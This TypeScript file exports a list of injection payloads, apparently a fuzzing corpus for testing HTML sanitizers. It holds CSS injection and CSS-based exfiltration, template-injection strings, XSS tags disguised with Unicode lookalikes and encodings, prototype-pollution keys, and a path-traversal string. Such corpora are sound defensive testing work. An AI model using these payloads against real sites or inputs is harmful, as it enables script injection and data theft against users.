/** What runs in the languages that stand behind or beside HTML, and names that mean something to them. */
const styles = [
  ...[
    '<style>@import url(AWAY);</style>',
    '<style>body{background:url(AWAY)}</style>',
    '<style>*{x:expression(RUN)}</style>',
  ],
  ...[
    '<p style="background:url(AWAY)">',
    '<p style="width:expression(RUN)">',
    '<p style="behavior:url(AWAY)">',
    '<p style="-moz-binding:url(AWAY)">',
  ],
  ...[
    '<style>input[value^=a]{background:url(AWAY)}</style>',
    '<style>@font-face{font-family:x;src:url(AWAY)}</style>',
  ],
  ...[
    '</style><script>RUN</script>',
    '}*{background:url(AWAY)}',
    ';background:url(AWAY)',
    '#fff;}</style><img src=x onerror=RUN>',
  ],
  ...[
    '<style>@property --x{}</style>',
    '<p style="content:attr(x);cursor:url(AWAY),auto">',
    '<style>@keyframes x{}</style><p onanimationstart=RUN style=animation-name:x>',
  ],
  ...[
    '<link rel=stylesheet href="data:text/css,*{background:url(AWAY)}">',
    '<div style=list-style:url(AWAY)>',
    '<p style="background:image-set(\'AWAY\' 1x)">',
  ],
];

const templates = [
  ...[
    '{{RUN}}',
    '{{constructor.constructor("RUN")()}}',
    '{{7*7}}',
    '\u0024{RUN}',
    '#{RUN}',
    '<%= RUN %>',
    '<% RUN %>',
    '{% RUN %}',
    '{{{RUN}}}',
  ],
  ...[
    '[[RUN]]',
    '@(RUN)',
    '*{RUN}',
    '~{RUN}',
    '$(RUN)',
    '`RUN`',
    '{{=RUN}}',
    '{{#with this}}RUN{{/with}}',
    '<div v-html="RUN">',
    '<div ng-app>{{RUN}}</div>',
  ],
  ...[
    '<x-a is="RUN">',
    '<div x-init="RUN">',
    '<div data-bind="text:RUN">',
    '<div hx-on:load="RUN">',
    '{person}',
    '{{person}}',
    '%s%n%x',
    '{0}{RUN}',
  ],
  ...[
    'dangerouslySetInnerHTML',
    '{"$$typeof":"Symbol(react.element)"}',
    '$&RUN',
    "$'<img src=x onerror=RUN>",
    '$`<img src=x onerror=RUN>',
    '$1<svg onload=RUN>',
  ],
];

const letters = [
  ...[
    '\uff1cimg src=x onerror=RUN\uff1e',
    '\uff1cscript\uff1eRUN\uff1c/script\uff1e',
    '\u2039script\u203aRUN',
    '\ufe64script\ufe65RUN',
    '\u02c2img\u02c3',
  ],
  ...[
    '<\u0130mg src=x onerror=RUN>',
    '<\u017fcript>RUN</\u017fcript>',
    '<\u017fvg onload=RUN>',
    '<img src=x one\u0280ror=RUN>',
    '<scr\u200bipt>RUN</scr\u200bipt>',
  ],
  ...[
    '\u202e<tpircs>RUN',
    '\u2066<svg onload=RUN>\u2069',
    '+ADw-script+AD4-RUN+ADw-/script+AD4-',
    '\x1b$B<img src=x onerror=RUN>',
    '\u00bcscript\u00beRUN\u00bc/script\u00be',
  ],
  ...[
    '%3Cimg%20src=x%20onerror=RUN%3E',
    '%253Cscript%253ERUN%253C/script%253E',
    '&lt;img src=x onerror=RUN&gt;',
    '&amp;lt;script&amp;gt;RUN',
    '&#60;svg onload=RUN&#62;',
  ],
  ...[
    '\\x3cimg src=x onerror=RUN\\x3e',
    '\\u003csvg onload=RUN\\u003e',
    '\\74script\\76RUN',
    '\ud83d<img src=x onerror=RUN>',
    '\ufffe<svg onload=RUN>',
    'a\u0301<b onclick=RUN>',
  ],
];

const names = [
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '__proto__[polluted]',
    '__proto__.polluted',
  ],
  ...[
    'constructor.prototype.polluted',
    '{"__proto__":{"polluted":"yes"}}',
    '{"constructor":{"prototype":{"polluted":"yes"}}}',
    '__defineGetter__',
  ],
  ...[
    'innerHTML',
    'srcdoc',
    'onerror',
    'then',
    'toJSON',
    'null',
    'undefined',
    'NaN',
    '[object Object]',
    '../../etc/passwd',
    '..\\..\\x',
    '/dev/null',
  ],
];

export const languages: string[] = [...styles, ...templates, ...letters, ...names];
